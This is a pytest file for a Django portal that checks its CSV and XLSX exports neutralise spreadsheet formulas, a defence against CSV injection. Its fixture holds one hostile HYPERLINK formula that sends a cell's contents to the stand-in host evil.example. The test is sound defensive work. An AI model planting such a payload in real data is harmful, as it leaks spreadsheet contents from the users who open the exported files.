"""Every CSV/XLSX download of the portal neutralises spreadsheet formulas (CSV injection).

One hostile name ("=HYPERLINK(...)") is put in an ecosystem, an organisation and an initiative; the
test then downloads every export and checks no text cell starts with a formula character.
"""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from agendas import services as agenda_services
from portal.open_data_services import open_data_generate_all
from portal.spreadsheets import FORMULA_PREFIXES
from portal.tests.factories import board_user_for
from selection import services
from selection.tests.conftest import full_answers, setup_round  # noqa: F401 (fixture)

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"klik")'


def _csv_cells(content: str) -> list[str]:
    content = content.lstrip("\ufeff")
    delimiter = ";" if content.split("\n", 1)[0].count(";") > content.split("\n", 1)[0].count(",") else ","
    return [cell for row in csv.reader(io.StringIO(content), delimiter=delimiter) for cell in row]


def _xlsx_cells(content: bytes) -> list[object]:
    workbook = load_workbook(io.BytesIO(content))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows(values_only=True) for cell in row]


def _check(name: str, cells: list[object]) -> None:
    texts = [c for c in cells if isinstance(c, str)]
    assert any("HYPERLINK" in c for c in texts), f"{name}: the hostile row is not in the file"
    bad = [c for c in texts if c.startswith(FORMULA_PREFIXES)]
    assert not bad, f"{name}: formula cells {bad[:3]}"
    assert all(c.startswith("'=HYPERLINK") for c in texts if "HYPERLINK" in c), name


@pytest.mark.django_db
def test_every_download_neutralises_formulas(client, setup_round, django_capture_on_commit_callbacks):  # noqa: F811
    round_, initiatives, (a1, _a2), staff = setup_round
    hostile = initiatives[0]
    hostile.title = HOSTILE
    hostile.save()
    hostile.lead_organisation.name = HOSTILE
    hostile.lead_organisation.save()
    eco = hostile.ecosystem
    eco.name = HOSTILE
    eco.save()
    agenda_services.agenda_create(ecosystem=eco, actor=board_user_for(eco))
    for value, initiative in zip((5, 3, 1), initiatives, strict=True):
        services.assessment_save(selection_round=round_, initiative=initiative, actor=a1,
                                 answers=full_answers(round_, value), submit=True)
    with django_capture_on_commit_callbacks(execute=True):
        services.scoring_run_start(selection_round=round_, actor=staff)
    open_data_generate_all()
    client.force_login(staff)

    downloads = {
        "initiatives csv": reverse("initiatives:export", args=["csv"]),
        "initiatives xlsx": reverse("initiatives:export", args=["xlsx"]),
        "ranking csv": reverse("selection:ranking-export", args=[round_.pk, "csv"]),
        "ranking xlsx": reverse("selection:ranking-export", args=[round_.pk, "xlsx"]),
        "agenda comparison csv": reverse("agendas:comparison") + "?format=csv",
        "agenda comparison xlsx": reverse("agendas:comparison") + "?format=xlsx",
        "open data initiatives": reverse("open-data-file", args=["initiatives", "csv"]),
        "open data ecosystems": reverse("open-data-file", args=["ecosystems", "csv"]),
    }
    for name, url in downloads.items():
        response = client.get(url)
        assert response.status_code == 200, name
        body = b"".join(response.streaming_content) if response.streaming else response.content
        if url.endswith("xlsx"):
            _check(name, _xlsx_cells(body))
        else:
            _check(name, _csv_cells(body.decode("utf-8")))
